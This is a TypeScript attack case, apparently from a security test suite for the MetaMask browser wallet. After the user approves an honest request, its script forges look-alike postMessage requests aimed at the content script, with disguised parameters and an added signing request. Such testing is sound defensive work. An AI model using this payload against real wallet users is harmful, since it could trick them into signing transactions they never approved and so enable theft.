import type { Attack } from './kit/attack.ts'
import { WIRE_HEARD_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'wire',
  how: 'After the user continued an honest request, posts one whose parameters look the same when written as JSON.',
  script: `
    const { method, params } = attack.honest
    let posted = false
    addEventListener('message', ({ data }) => {
      if (posted || data?.target !== 'metamask-contentscript' || data.data?.data?.method !== method) return
      posted = true
      for (const other of [{ params: { 0: attack.hex, 1: attack.account, length: 2 } }, { params: new String(JSON.stringify(params)) }, { params: [attack.hex, attack.account] }]) postMessage(attack.posted({ method, ...other }), '*')
      const twin = [...params]
      twin.mark = attack.mark
      postMessage(attack.posted({ method, params: twin, more: attack.sign }), '*')
    }, true)
    const asked = ethereum.request(attack.honest)
    attack.tell('asked')
    await attack.ended(asked)
    postMessage(attack.posted({ method, params: attack.sign.params }), '*')
    await attack.sleep(200)
  `,
  async hands({ hear, continueHonest }) {
    await hear('asked')
    await continueHonest()
  },
  open: { 'wallet-before': WIRE_HEARD_FIRST },
} satisfies Attack
